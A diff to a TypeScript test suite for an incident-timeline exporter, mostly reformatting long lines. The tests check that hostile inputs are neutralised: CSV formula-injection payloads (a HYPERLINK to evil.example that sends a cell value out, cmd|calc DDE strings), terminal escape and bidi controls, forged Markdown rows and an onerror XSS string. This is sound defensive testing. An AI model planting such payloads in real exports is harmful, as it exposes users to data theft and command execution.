@@ -8,7 +8,13 @@ import { timelineCsv, timelineJson, timelineMarkdown, type TimelineItem } from '
 const CI_ROLE = 'arn:aws:sts::123456789012:assumed-role/ci-deployer/i-0abc123def4567890';
 
 const ITEMS: TimelineItem[] = [
-  { seq: 1, ts: '2026-04-20T14:32:05.123Z', kind: 'opened', actor: 'alice', text: 'Incident INC-2026-042 opened: Anomalous reads' },
+  {
+    seq: 1,
+    ts: '2026-04-20T14:32:05.123Z',
+    kind: 'opened',
+    actor: 'alice',
+    text: 'Incident INC-2026-042 opened: Anomalous reads',
+  },
   { seq: 2, ts: '2026-04-20T14:33:00Z', kind: 'severity', actor: 'alice', text: 'Severity set to Sev1 High' },
   {
     seq: 9,
@@ -21,7 +27,9 @@ const ITEMS: TimelineItem[] = [
   },
 ];
 
-const one = (text: string, actor = 'alice'): TimelineItem[] => [{ seq: 4, ts: '2026-04-20T14:35:00.000Z', kind: 'note', actor, text }];
+const one = (text: string, actor = 'alice'): TimelineItem[] => [
+  { seq: 4, ts: '2026-04-20T14:35:00.000Z', kind: 'note', actor, text },
+];
 
 /** A strict RFC 4180 parser (CRLF records, "" escapes), so the tests read CSV as a spreadsheet would. */
 function parseCsv(csv: string): string[][] {
@@ -101,7 +109,9 @@ describe('timelineCsv', () => {
   it('quotes commas and quotes per RFC 4180 and round-trips them through a parser', () => {
     const text = 'Contained: revoked "ci-deployer" sessions, then rotated keys';
     const csv = timelineCsv(one(text, 'Dana "DW" Whitfield, IC'));
-    expect(csv.split('\r\n')[1]).toBe('4,2026-04-20T14:35:00.000Z,note,"Dana ""DW"" Whitfield, IC","Contained: revoked ""ci-deployer"" sessions, then rotated keys",,');
+    expect(csv.split('\r\n')[1]).toBe(
+      '4,2026-04-20T14:35:00.000Z,note,"Dana ""DW"" Whitfield, IC","Contained: revoked ""ci-deployer"" sessions, then rotated keys",,',
+    );
     const rows = parseCsv(csv);
     expect(rows[1]![3]).toBe('Dana "DW" Whitfield, IC');
     expect(rows[1]![4]).toBe(text);
@@ -115,14 +125,16 @@ describe('timelineCsv', () => {
     const rows = parseCsv(csv);
     expect(rows).toHaveLength(2);
     expect(rows[1]![4]).toBe('first line\u240asecond line, with comma\u240d\u240athird');
-    expect(csv.split('\r\n')[1]).toBe('4,2026-04-20T14:35:00.000Z,note,alice,"first line\u240asecond line, with comma\u240d\u240athird",,');
+    expect(csv.split('\r\n')[1]).toBe(
+      '4,2026-04-20T14:35:00.000Z,note,alice,"first line\u240asecond line, with comma\u240d\u240athird",,',
+    );
   });
 
   it.each([
     ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
-    ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
+    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
     ['-2+3', `'-2+3`],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
     ['=1+1', `'=1+1`],
   ])('defuses a formula cell %j', (attack, cell) => {
     const csv = timelineCsv(one(attack, attack));
@@ -154,7 +166,9 @@ describe('timelineCsv', () => {
 
   it('shows each neutralised control as a visible token', () => {
     const rows = parseCsv(timelineCsv(one(`${ATTACK.osc} ${ATTACK.c1} ${ATTACK.bidi}`)));
-    expect(rows[1]![4]).toBe('role\u241b]0;pwned\u2407name a<U+009B>31mred<U+009D>8;;http://evil<U+009C> user<U+202E>gnp.exe');
+    expect(rows[1]![4]).toBe(
+      'role\u241b]0;pwned\u2407name a<U+009B>31mred<U+009D>8;;http://evil<U+009C> user<U+202E>gnp.exe',
+    );
   });
 });
 
@@ -179,7 +193,9 @@ describe('timelineMarkdown', () => {
     const md = timelineMarkdown(one('exfil | via | three pipes \\| and C:\\temp\\', 'eve|admin'), 'T | x');
     const lines = md.split('\n');
     expect(lines[0]).toBe('# Timeline: T \\| x');
-    expect(lines[6]).toBe('| 2026-04-20 14:35:00 | note | eve\\|admin | exfil \\| via \\| three pipes \\\\\\| and C:\\\\temp\\\\ |  |  |');
+    expect(lines[6]).toBe(
+      '| 2026-04-20 14:35:00 | note | eve\\|admin | exfil \\| via \\| three pipes \\\\\\| and C:\\\\temp\\\\ |  |  |',
+    );
     // Unescaped pipes delimit exactly seven times (six columns) on the row.
     expect(lines[6]!.match(/(?<!\\)(?:\\\\)*\|/g)).toHaveLength(7);
   });
@@ -188,7 +204,9 @@ describe('timelineMarkdown', () => {
     const md = timelineMarkdown(one('line one\n| forged | row |\n<img src=x onerror=alert(1)>'), 'T');
     const lines = md.split('\n');
     expect(lines).toHaveLength(8);
-    expect(lines[6]).toBe('| 2026-04-20 14:35:00 | note | alice | line one\u240a\\| forged \\| row \\|\u240a&lt;img src=x onerror=alert(1)&gt; |  |  |');
+    expect(lines[6]).toBe(
+      '| 2026-04-20 14:35:00 | note | alice | line one\u240a\\| forged \\| row \\|\u240a&lt;img src=x onerror=alert(1)&gt; |  |  |',
+    );
   });
 
   it.each(Object.entries(ATTACK))('does not let %s terminal controls through raw', (_name, attack) => {
@@ -207,13 +225,24 @@ describe('timelineMarkdown', () => {
 
 describe('timelineJson', () => {
   it('writes the incident and every item with ISO event times', () => {
-    const incident = { id: 'INC-2026-042', title: 'Anomalous reads', codename: 'EMBER QUARTZ', openedAt: '2026-04-20T14:32:05.123Z' };
+    const incident = {
+      id: 'INC-2026-042',
+      title: 'Anomalous reads',
+      codename: 'EMBER QUARTZ',
+      openedAt: '2026-04-20T14:32:05.123Z',
+    };
     const out = timelineJson(ITEMS, incident);
     expect(out.endsWith('}\n')).toBe(true);
     expect(JSON.parse(out)).toEqual({
       incident,
       timeline: [
-        { seq: 1, ts: '2026-04-20T14:32:05.123Z', kind: 'opened', actor: 'alice', text: 'Incident INC-2026-042 opened: Anomalous reads' },
+        {
+          seq: 1,
+          ts: '2026-04-20T14:32:05.123Z',
+          kind: 'opened',
+          actor: 'alice',
+          text: 'Incident INC-2026-042 opened: Anomalous reads',
+        },
         { seq: 2, ts: '2026-04-20T14:33:00Z', kind: 'severity', actor: 'alice', text: 'Severity set to Sev1 High' },
         {
           seq: 9,
@@ -230,15 +259,18 @@ describe('timelineJson', () => {
     expect(Object.keys(JSON.parse(out).timeline[0])).toEqual(['seq', 'ts', 'kind', 'actor', 'text']);
   });
 
-  it.each(Object.entries(ATTACK))('writes %s controls as \\u escapes and parses back to the exact string', (_name, attack) => {
-    const text = `note about ${attack} and "quotes", commas | pipes\nnewline`;
-    const out = timelineJson(one(text, attack), { id: 'INC-2026-042', title: attack });
-    expect(RAW_CONTROL.test(out)).toBe(false);
-    const parsed = JSON.parse(out) as { incident: { title: string }; timeline: TimelineItem[] };
-    expect(parsed.timeline[0]!.text).toBe(text);
-    expect(parsed.timeline[0]!.actor).toBe(attack);
-    expect(parsed.incident.title).toBe(attack);
-  });
+  it.each(Object.entries(ATTACK))(
+    'writes %s controls as \\u escapes and parses back to the exact string',
+    (_name, attack) => {
+      const text = `note about ${attack} and "quotes", commas | pipes\nnewline`;
+      const out = timelineJson(one(text, attack), { id: 'INC-2026-042', title: attack });
+      expect(RAW_CONTROL.test(out)).toBe(false);
+      const parsed = JSON.parse(out) as { incident: { title: string }; timeline: TimelineItem[] };
+      expect(parsed.timeline[0]!.text).toBe(text);
+      expect(parsed.timeline[0]!.actor).toBe(attack);
+      expect(parsed.incident.title).toBe(attack);
+    },
+  );
 
   it('uses the exact escape for ESC, BEL, C1 and bidi', () => {
     const out = timelineJson(one(`${ATTACK.osc}|${ATTACK.c1}|${ATTACK.bidi}|\u061c\u2066\u200f\ufeff`), {});
